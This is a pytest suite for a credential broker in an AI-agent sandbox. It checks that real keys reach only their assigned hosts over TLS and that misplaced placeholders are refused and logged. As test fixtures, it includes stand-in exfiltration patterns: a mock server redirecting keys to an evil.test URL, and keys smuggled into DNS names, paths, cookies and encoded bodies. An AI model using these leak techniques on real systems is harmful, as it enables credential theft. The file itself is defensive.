"""Keys reach the one place that they are for, on TLS alone, and neither they nor their placeholders anything else."""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import socket
import ssl
import threading
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from akios_jail import messages
from akios_jail.credentials.keys import Held
from akios_jail.demo.certificates import Authority
from tests.broker import harness
from tests.broker.harness import Answer, Broker, Reader, Seen, Upstream, request
from tests.credentials.held import PLACEHOLDER, VALUE, aws, key

pytestmark = pytest.mark.root

QUERY_PLACEHOLDER, QUERY_VALUE = "AIzaSyPLACEHOLDERplaceholder0123456789x", "AIzaSyREALrealREALreal0123456789abcdefgh"
AWS = aws("AKIAREALREALREALREAL", "r" * 20 + "/+" + "s" * 18, "token+/=" * 8)
ACCESS, SECRET, TOKEN = (AWS.keys[role] for role in ("access_key_id", "secret_access_key", "session_token"))
HELD = (
    key(hosts=("api.test", "*.wild.test")),
    key(QUERY_VALUE, QUERY_PLACEHOLDER, name="maps", hosts=("maps.test",), place="query", field="key"),
    Held(AWS.plan._replace(hosts=("aws.test",)), AWS.keys.values()),
)
REAL = (VALUE, QUERY_VALUE, SECRET.value, TOKEN.value)
BEARER = f"Authorization: Bearer {PLACEHOLDER}"


def reflect(sock: socket.socket, _: Reader, seen: Seen) -> None:
    """Answers with all that it got: in a header field, and in the body as `?as=` says."""
    how = seen.target.partition("as=")[2].partition("&")[0]
    text = json.dumps({"target": seen.target, "headers": dict(seen.headers)})
    body, fields = text.encode(), []
    if how == "gzip":
        body, fields = gzip.compress(body), ["Content-Encoding: gzip"]
    elif how == "deflate":
        body, fields = zlib.compress(body), ["Content-Encoding: deflate"]
    elif how == "br":
        fields = ["Content-Encoding: br"]
    elif how == "base64":
        body = base64.b64encode(b"x" + body)
    elif how == "hex":
        body = body.hex().encode()
    elif how == "percent":
        body = "".join(f"%{byte:02x}" for byte in body).encode()
    key_sent = next((v for n, v in seen.headers if n.lower() == "authorization"), "").removeprefix("Bearer ")
    head = [
        "HTTP/1.1 302 " + (f"Go {key_sent}" if key_sent.isprintable() else "Go"),
        f"Location: https://evil.test/?k={key_sent}",
        f"Set-Cookie: k={key_sent}; Path=/",
        f"X-{key_sent[-20:] or 'None'}: 1",
        *fields,
    ]
    if how == "chunks":
        sock.sendall("\r\n".join([*head, "Transfer-Encoding: chunked", "", ""]).encode())
        for byte in body:
            sock.sendall(b"1\r\n%c\r\n" % byte)
        sock.sendall(b"0\r\n\r\n")
        return
    sock.sendall("\r\n".join([*head, f"Content-Length: {len(body)}", "", ""]).encode() + body)


STORED = gzip.compress(os.urandom(200_000).hex().encode())
LARGE = gzip.compress(os.urandom(3 << 20))
TOLD = gzip.compress(os.urandom(3 << 20) + VALUE.encode() + os.urandom(1 << 20))


def stored(sock: socket.socket, _: Reader, seen: Seen) -> None:
    """A file that is kept compressed, with its length and its checksum."""
    body = {"/stored": STORED, "/stored/large": LARGE, "/stored/told": TOLD}.get(seen.target, STORED[5000:9000])
    status = {"/stored/part": "206 Part", "/stored/none": "204 None", "/stored/same": "304 Same"}.get(seen.target)
    head = f"HTTP/1.1 {status or '200 OK'}\r\nContent-Encoding: gzip\r\nX-Checksum: 1\r\n"
    if status in (None, "206 Part"):
        head += f"Content-Length: {len(body)}\r\n"
    bodiless = seen.method == "HEAD" or (status or "")[:3] in ("204", "304")
    sock.sendall(f"{head}\r\n".encode() + (b"" if bodiless else body))


def events(sock: socket.socket, _: Reader, seen: Seen) -> None:
    """A stream whose events must arrive one by one."""
    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
    for number in range(3):
        sock.sendall(b"data: %d sk-\n\n" % number)
        time.sleep(0.3)
    raise EOFError


def by_path(sock: socket.socket, reader: Reader, seen: Seen) -> None:
    answer = {"/events": events, "/stored": stored}.get("/" + seen.target.split("/")[1], reflect)
    answer(sock, reader, seen)


class World(NamedTuple):
    broker: Broker
    upstreams: dict[str, Upstream]

    def ask(self, host: str, method: str, target: str, body: bytes = b"", *fields: str) -> Answer:
        """One request on a connection of its own."""
        with self.broker.tls(host) as sock:
            sock.sendall(request(method, target, host, body, *fields))
            return Reader(sock).answer(head=method == "HEAD")

    def last(self, host: str) -> Seen:
        return self.upstreams[host].seen[-1]

    def violations(self) -> list[dict[str, Any]]:
        return self.broker.records("session.violation")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    authority = Authority()
    https = ("api.test", "other.test", "maps.test", "aws.test", "a.wild.test", f"{PLACEHOLDER.lower()}.wild.test")
    upstreams = {host: Upstream(authority, host, by_path) for host in https}
    upstreams["plain.test"] = Upstream(None, "plain.test", by_path)
    rules = [harness.rule(n, host) for n, host in enumerate(("api.test", "other.test", "maps.test", "aws.test"), 1)]
    rules.append(harness.rule(5, "*.wild.test", kind="wildcard"))
    rules.append(harness.rule(8, "*.pass.test", kind="wildcard", tls="passthrough", methods=(), paths=()))
    rules.append(harness.rule(6, "plain.test", ports=(80,), protocol="http"))
    rules.append(harness.rule(7, "api.test", ports=(80,), protocol="http"))
    plan, egress = harness.plans(*rules)
    mapped = [[host, 443, "127.0.0.1", upstream.port] for host, upstream in upstreams.items()]
    mapped += [[host, 80, "127.0.0.1", upstreams["plain.test"].port] for host in ("plain.test", "api.test")]
    folder = tmp_path_factory.mktemp("broker")
    with harness.opened(
        folder,
        plan._replace(credentials=tuple(held.plan for held in HELD)),
        egress,
        connect_to=mapped,
        upstream_ca_pem=authority.pem.decode(),
        fds={"secrets": messages.blob("secrets", written(HELD))},
    ) as broker:
        yield World(broker, upstreams)
        report = json.dumps(broker.end())
    for upstream in upstreams.values():
        upstream.close()
    for place in (report, broker.log, (folder / "broker.log").read_text()):
        assert not [text for text in REAL if text in place]


def written(held: tuple[Held, ...]) -> bytes:
    """The keys as the launcher hands them over."""
    keys = [key for each in held for key in each.keys.values()]
    return b"".join(
        text.encode() + b"\0" for key in keys for text in (key.credential, key.role, key.placeholder, key.value)
    )


@pytest.mark.parametrize("scheme", ["Bearer ", "token ", ""])
def test_upstream_gets_the_key_where_the_agent_has_a_placeholder(world: World, scheme: str) -> None:
    world.ask("api.test", "POST", "/v1", b"{}", f"Authorization: {scheme}{PLACEHOLDER}")
    assert world.last("api.test").header("authorization") == scheme + VALUE
    verdict = world.broker.records("verdict")[-1]
    assert (verdict["path"], verdict["notes"]) == ("/v1", {"credential": {"used": ["model"]}})


def test_git_gets_it_into_basic(world: World) -> None:
    told = base64.b64encode(f"git:{PLACEHOLDER}".encode()).decode()
    world.ask("api.test", "GET", "/info/refs", b"", f"Authorization: Basic {told}")
    sent = world.last("api.test").header("authorization") or ""
    assert base64.b64decode(sent.removeprefix("Basic ")).decode() == f"git:{VALUE}"


def test_a_name_below_a_wildcard_gets_it_too(world: World) -> None:
    address = resolve(world, "a.wild.test")
    with world.broker.wrap(world.broker.namespace.connect(address), "a.wild.test") as sock:
        sock.sendall(request("GET", "/", "a.wild.test", b"", BEARER))
        Reader(sock).answer()
    assert world.last("a.wild.test").header("authorization") == f"Bearer {VALUE}"


def test_a_query_parameter_holds_it(world: World) -> None:
    world.ask("maps.test", "GET", f"/geo?a=%20b&key={QUERY_PLACEHOLDER}&z")
    assert world.last("maps.test").target == f"/geo?a=%20b&key={QUERY_VALUE}&z"


def test_what_an_agent_brings_of_its_own_goes_as_it_is(world: World) -> None:
    world.ask("api.test", "GET", "/", b"", "Authorization: Bearer its-own", "X-Other: 1")
    assert world.last("api.test").header("authorization") == "Bearer its-own"
    assert "notes" not in world.broker.records("verdict")[-1]
    world.ask("other.test", "GET", "/", b"", "Authorization: Bearer its-own")
    assert world.last("other.test").header("authorization") == "Bearer its-own"


BODY = json.dumps({"messages": [{"content": f"my key is {PLACEHOLDER}!"}]}).encode()
ESCAPED = b'{"a":"' + "".join(f"\\u{ord(c):04x}" for c in PLACEHOLDER).encode() + b'"}'
STRAY = {
    "another host": ("other.test", "GET", "/", b"", [BEARER]),
    "another host's body": ("other.test", "POST", "/", BODY, []),
    "its host's body": ("api.test", "POST", "/", BODY, [BEARER]),
    "escapes": ("api.test", "POST", "/", ESCAPED, []),
    "base64": ("api.test", "POST", "/", b"-" + base64.b64encode(b"x" + PLACEHOLDER.encode()), []),
    "hex": ("api.test", "POST", "/", PLACEHOLDER.encode().hex().encode(), []),
    "gzip": ("api.test", "POST", "/", gzip.compress(BODY), ["Content-Encoding: gzip"]),
    "deflate": ("api.test", "POST", "/", zlib.compress(BODY), ["Content-Encoding: deflate"]),
    "gzip's own head": (
        "api.test", "POST", "/",
        b"\x1f\x8b\x08\x10" + b"\0" * 6 + PLACEHOLDER.encode() + b"\0" + gzip.compress(b"a")[10:],
        ["Content-Encoding: gzip"],
    ),
    "user agent": ("api.test", "GET", "/", b"", [f"User-Agent: {PLACEHOLDER}"]),
    "name of a field": ("api.test", "GET", "/", b"", [f"{PLACEHOLDER}: 1"]),
    "cookie": ("api.test", "GET", "/", b"", [f"Cookie: a={PLACEHOLDER}"]),
    "twice": ("api.test", "GET", "/", b"", [f"Authorization: Bearer {PLACEHOLDER} {PLACEHOLDER}"]),
    "path": ("api.test", "GET", f"/{PLACEHOLDER}", b"", []),
    "encoded path": ("api.test", "GET", "/" + "".join(f"%{ord(c):02x}" for c in PLACEHOLDER), b"", []),
    "query": ("api.test", "GET", f"/?x={PLACEHOLDER}", b"", []),
    "another parameter": ("maps.test", "GET", f"/?other={QUERY_PLACEHOLDER}", b"", []),
    "another credential's host": ("maps.test", "GET", f"/?key={PLACEHOLDER}", b"", []),
    "aws id": ("aws.test", "GET", f"/?id={ACCESS.placeholder}", b"", []),
    "aws secret": ("aws.test", "POST", "/", SECRET.placeholder.encode(), []),
    "the key itself": ("other.test", "POST", "/", VALUE.encode(), []),
    "the key itself in the path": ("other.test", "GET", f"/bot{VALUE}/send", b"", []),
    "the key itself in the name of a field": ("other.test", "GET", "/", b"", [f"X-{VALUE}: 1"]),
    "the key itself in a field": ("other.test", "GET", "/", b"", [f"Authorization: Bearer {VALUE}"]),
}  # fmt: skip


@pytest.mark.parametrize("case", STRAY)
def test_a_placeholder_anywhere_else_is_refused_and_a_violation_on_record(world: World, case: str) -> None:
    host, method, target, body, fields = STRAY[case]
    before, seen = len(world.violations()), len(world.upstreams[host].seen)
    answer = world.ask(host, method, target, body, *fields)
    assert (answer.status, answer.error["code"]) == (403, "credential_misplaced")
    assert len(world.upstreams[host].seen) == seen
    (violation,) = world.violations()[before:]
    assert (violation["code"], violation["host"]) == ("credential_misplaced", host)
    assert not [text for text in REAL if text.encode() in answer.body]


def test_the_refusal_says_where_it_belongs(world: World) -> None:
    message = world.ask("maps.test", "GET", f"/?k={QUERY_PLACEHOLDER}").error["message"]
    assert message == (
        "the placeholder of the credential 'maps' is in the query of a request to https://maps.test; "
        "the policy has it in the query parameter key to maps.test, over https, and nowhere else"
    )
    assert "AWS signatures for aws.test" in world.ask("maps.test", "GET", f"/?k={SECRET.placeholder}").error["message"]


def test_a_key_in_what_is_refused_for_another_reason_is_not_written_down(world: World) -> None:
    with world.broker.tls("other.test") as sock:
        sock.sendall(f"GET /{VALUE} HTTP/1.1\r\nHost: {VALUE}.test\r\n\r\n".encode())
        assert Reader(sock).answer().status in (400, 403)
    assert VALUE not in world.broker.log


@pytest.mark.parametrize("coding", ["br", "zstd", "gzip, br"])
def test_a_body_that_cannot_be_searched_is_refused(world: World, coding: str) -> None:
    answer = world.ask("other.test", "POST", "/", b"whatever", f"Content-Encoding: {coding}")
    assert (answer.status, answer.error["code"]) == (415, "body_undecodable")


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize("coding", ["", "gzip"])
def test_a_body_in_chunks_never_arrives_with_a_placeholder(world: World, size: int, coding: str) -> None:
    before = len(world.violations())
    upstream = world.upstreams["other.test"]
    seen, connections = len(upstream.seen), upstream.connections
    body = b"0123456789" * 20 + PLACEHOLDER.encode() + b"tail" * 10
    body = gzip.compress(body) if coding else body
    fields = ["Transfer-Encoding: chunked", *(["Content-Encoding: gzip"] if coding else [])]
    with world.broker.tls("other.test") as sock:
        sock.sendall(request("POST", "/", "other.test", b"", *fields))
        for at in range(0, len(body), size):
            try:
                sock.sendall(b"%x\r\n%b\r\n" % (len(body[at : at + size]), body[at : at + size]))
            except OSError:
                break  # it was refused in the middle already
        else:
            sock.sendall(b"0\r\n\r\n")
        answer = Reader(sock).answer()
    assert (answer.status, answer.error["code"]) == (403, "credential_misplaced")
    assert len(world.violations()) == before + 1
    assert len(upstream.seen) == seen, "upstream had the whole request"
    assert upstream.connections >= connections


def test_plain_http_never_carries_a_key(world: World) -> None:
    seen = len(world.upstreams["plain.test"].seen)
    with world.broker.namespace.connect("api.test", 80) as sock:
        sock.sendall(request("GET", "/", "api.test", b"", BEARER))
        answer = Reader(sock).answer()
    assert (answer.status, answer.error["code"]) == (403, "credential_misplaced")
    assert len(world.upstreams["plain.test"].seen) == seen


def test_a_name_with_a_placeholder_is_a_violation_when_it_is_asked_for(world: World) -> None:
    before = len(world.violations())
    resolve(world, f"{PLACEHOLDER[:30]}.{PLACEHOLDER[30:]}.evil.test")
    world.broker.await_record(lambda record: record.get("where") == "dns")
    assert len(world.violations()) == before + 1


def test_a_name_with_a_placeholder_below_a_wildcard_is_one_when_it_is_used(world: World) -> None:
    name = f"{PLACEHOLDER.lower()}.wild.test"
    address = resolve(world, name)
    with world.broker.wrap(world.broker.namespace.connect(address), name) as sock:
        sock.sendall(request("GET", "/", name))
        answer = Reader(sock).answer()
    assert answer.error["code"] == "credential_misplaced"
    assert not world.upstreams[name].seen


def test_a_name_with_a_placeholder_that_is_passed_through_is_one_too(world: World) -> None:
    name = f"{PLACEHOLDER.lower()}.pass.test"
    before = len(world.violations())
    with pytest.raises(OSError):
        ssl.create_default_context().wrap_socket(
            world.broker.namespace.connect(resolve(world, name)), server_hostname=name
        )
    world.broker.await_record(lambda record: record.get("where") == "connect")
    assert len(world.violations()) == before + 1


@pytest.mark.parametrize(("target", "body"), [("/stored", STORED), ("/stored/large", LARGE)])
def test_what_is_kept_compressed_arrives_as_it_is(world: World, target: str, body: bytes) -> None:
    answer = world.ask("api.test", "GET", target, b"", BEARER)
    assert (answer.status, answer.header("content-encoding")) == (200, "gzip")
    assert answer.body == body


@pytest.mark.parametrize(
    ("method", "target", "status"),
    [("HEAD", "/stored", 200), ("GET", "/stored/none", 204), ("GET", "/stored/same", 304)],
)
def test_an_answer_without_a_body_needs_no_searching(world: World, method: str, target: str, status: int) -> None:
    answer = world.ask("api.test", method, target, b"", BEARER)
    assert (answer.status, answer.header("content-encoding"), answer.body) == (status, "gzip", b"")


def test_a_part_of_what_is_compressed_cannot_be_searched(world: World) -> None:
    answer = world.ask("api.test", "GET", "/stored/part", b"", BEARER, "Range: bytes=5000-8999")
    assert (answer.status, answer.error["code"]) == (502, "answer_undecodable")


def test_a_large_compressed_answer_with_a_key_breaks_off(world: World) -> None:
    with world.broker.tls("api.test") as sock:
        sock.sendall(request("GET", "/stored/told", "api.test", b"", BEARER))
        came = b""
        with contextlib.suppress(OSError):
            while chunk := sock.recv(1 << 16):
                came += chunk
    coded = came.partition(b"\r\n\r\n")[2]
    assert 1 << 20 < len(coded) < len(TOLD)
    assert VALUE.encode() not in zlib.decompressobj(31).decompress(coded)
    assert world.broker.await_record(lambda record: record.get("code") == "answer_holds_key")


def test_of_a_part_of_a_file_no_coding_is_asked_for(world: World) -> None:
    world.ask("api.test", "GET", "/", b"", BEARER, "Accept-Encoding: gzip, br", "Range: bytes=5-9")
    assert world.last("api.test").header("accept-encoding") == "identity"


@pytest.mark.parametrize("how", ["plain", "gzip", "deflate", "base64", "hex", "percent", "chunks"])
def test_what_upstream_reflects_is_rid_of_the_key(world: World, how: str) -> None:
    answer = world.ask("api.test", "GET", f"/reflect?as={how}", b"", BEARER)
    assert answer.status == 302
    assert answer.header("location") == f"https://evil.test/?k={PLACEHOLDER}"
    assert answer.header("set-cookie") == f"k={PLACEHOLDER}; Path=/"
    told = answer.body
    if how == "base64":
        told = base64.b64decode(told)[1:]
    elif how == "hex":
        told = bytes.fromhex(told.decode())
    if how != "percent":
        assert json.loads(told)["headers"]["Authorization"] == f"Bearer {PLACEHOLDER}"
    assert not [text for text in REAL if text in json.dumps(answer.headers) or text.encode() in told]
    assert "".join(f"%{ord(c):02x}" for c in VALUE).encode() not in told


def test_an_answer_keeps_its_length(world: World) -> None:
    answer = world.ask("api.test", "GET", "/reflect", b"", BEARER)
    assert answer.header("content-length") == str(len(answer.body))


def test_an_answer_that_cannot_be_searched_does_not_arrive(world: World) -> None:
    answer = world.ask("api.test", "GET", "/reflect?as=br", b"", BEARER, "Accept-Encoding: br, gzip;q=0.5, zstd")
    assert (answer.status, answer.error["code"]) == (502, "answer_undecodable")
    assert world.last("api.test").header("accept-encoding") == "gzip;q=0.5"


def test_other_hosts_are_asked_and_answer_as_ever(world: World) -> None:
    answer = world.ask("other.test", "GET", "/reflect?as=br", b"", "Accept-Encoding: br")
    assert answer.header("content-encoding") == "br"
    assert world.last("other.test").header("accept-encoding") == "br"


def test_events_arrive_one_by_one(world: World) -> None:
    with world.broker.tls("api.test") as sock:
        sock.sendall(request("GET", "/events", "api.test", b"", BEARER))
        reader = Reader(sock)
        reader.line()
        reader.fields()
        times = []
        while chunk := reader.chunk():
            times.append(time.monotonic())
            assert chunk.endswith(b" sk-\n\n")
    assert len(times) == 3
    assert times[2] - times[0] > 0.4


@pytest.mark.parametrize("field", [f"Sec-WebSocket-Protocol: {PLACEHOLDER}", BEARER])
def test_a_websocket_gets_no_key(world: World, field: str) -> None:
    seen = len(world.upstreams["api.test"].seen)
    answer = world.ask("api.test", "GET", "/realtime", b"", "Upgrade: websocket", "Connection: Upgrade", field)
    assert (answer.status, answer.error["code"]) == (403, "upgrade_refused")
    assert len(world.upstreams["api.test"].seen) == seen


def test_http_2_is_not_spoken(world: World) -> None:
    with world.broker.tls("api.test", alpn=["h2", "http/1.1"]) as sock:
        assert sock.selected_alpn_protocol() == "http/1.1"


def test_many_at_once_each_get_their_own(world: World) -> None:
    statuses: list[int] = []

    def one(number: int) -> None:
        stray = number % 2
        answer = world.ask("api.test", "POST", f"/n{number}", BODY if stray else b"{}", BEARER)
        statuses.append(answer.status if not stray else -answer.status)

    threads = [threading.Thread(target=one, args=(number,)) for number in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(statuses) == [-403] * 10 + [302] * 10


SIGNED = "SignedHeaders=host;x-amz-date;x-amz-security-token"
SIGNATURE = (
    f"Authorization: AWS4-HMAC-SHA256 Credential={ACCESS.placeholder}/20261123/eu-west-1/bedrock/aws4_request, "
    f"{SIGNED}, Signature={'0' * 64}"
)
AMAZON = [SIGNATURE, "X-Amz-Date: 20261123T010000Z", f"X-Amz-Security-Token: {TOKEN.placeholder}"]


@pytest.mark.parametrize("length", [True, False], ids=["length", "chunked"])
def test_a_signature_is_made_again_for_what_upstream_receives(world: World, length: bool) -> None:
    if length:
        world.ask("aws.test", "POST", "/model/a%3A0/converse", b'{"a":1}', *AMAZON)
    else:
        chunked = b"7\r\n" + b'{"a":1}' + b"\r\n0\r\n\r\n"
        with world.broker.tls("aws.test") as sock:
            head = request("POST", "/model/a%3A0/converse", "aws.test", b"", *AMAZON, "Transfer-Encoding: chunked")
            sock.sendall(head + chunked)
            Reader(sock).answer()
    seen = world.last("aws.test")
    assert seen.header("x-amz-security-token") == TOKEN.value
    sent = seen.header("authorization") or ""
    assert f"Credential={ACCESS.value}/20261123/eu-west-1/bedrock/aws4_request" in sent
    assert sent.endswith(expected(seen, "bedrock"))
    assert SECRET.value not in sent
    assert world.broker.records("verdict")[-1]["notes"] == {"credential": {"used": ["aws"]}}


def expected(seen: Seen, service: str) -> str:
    """The signature that AWS's own library makes of what upstream received."""
    from botocore.auth import SigV4Auth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    signer = SigV4Auth(Credentials(ACCESS.value, SECRET.value, TOKEN.value), service, "eu-west-1")
    names = ("host", "x-amz-date", "x-amz-security-token")
    headers = {name: value for name, value in seen.headers if name.lower() in names}
    made = AWSRequest(seen.method, f"https://aws.test{seen.target}", headers, seen.body)
    made.context["timestamp"] = "20261123T010000Z"
    return signer.signature(signer.string_to_sign(made, signer.canonical_request(made)), made)


def test_an_address_that_carries_its_signature_is_refused_with_words(world: World) -> None:
    scope = f"{ACCESS.placeholder}%2F20261123%2Feu-west-1%2Fs3%2Faws4_request"
    answer = world.ask("aws.test", "GET", f"/a?X-Amz-Credential={scope}&X-Amz-Signature=0")
    assert (answer.status, answer.error["code"]) == (403, "credential_unsignable")
    assert "the address carries its signature" in answer.error["message"]


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        ([f"Authorization: AWS {ACCESS.placeholder}:c2ln", AMAZON[1]], "not signed as AWS4-HMAC-SHA256"),
        ([SIGNATURE.replace("HMAC-SHA256", "ECDSA-P256-SHA256"), AMAZON[1]], "not signed as AWS4-HMAC-SHA256"),
        ([SIGNATURE], "lacks its X-Amz-Date"),
        ([*AMAZON, "X-Amz-Content-SHA256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD"], "signed one by one"),
    ],
)
def test_what_cannot_be_signed_is_refused_with_words(world: World, fields: list[str], says: str) -> None:
    answer = world.ask("aws.test", "PUT", "/", b"x", *fields)
    assert (answer.status, answer.error["code"]) == (403, "credential_unsignable")
    assert says in answer.error["message"]


def test_a_session_whose_keys_did_not_come_is_not_opened(tmp_path: Path) -> None:
    plan, egress = harness.plans(harness.rule(1, "api.test"))
    namespace = harness.Namespace(egress)
    wrong = messages.blob("secrets", written(HELD[:1])[:-4])
    for fds in ({}, {"secrets": wrong}):
        broker = Broker(tmp_path, plan._replace(credentials=(HELD[0].plan,)), namespace, later=True, fds=fds)
        message = broker.receive()
        assert (message.type, message.fields["code"]) == ("failed", "bad_session")
        assert VALUE[:10] not in message.fields["reason"]
        broker.process.wait(harness.PATIENCE)
        broker.close()
    for fd in namespace.fds.values():
        os.close(fd)
    namespace.close()


def resolve(world: World, name: str) -> str:
    """The address that the jail's name server gives for a name; "" for none."""
    import dns.message

    answer = dns.message.from_wire(world.broker.namespace.ask(dns.message.make_query(name, "A").to_wire()))
    return str(answer.answer[0][0]) if answer.answer else ""
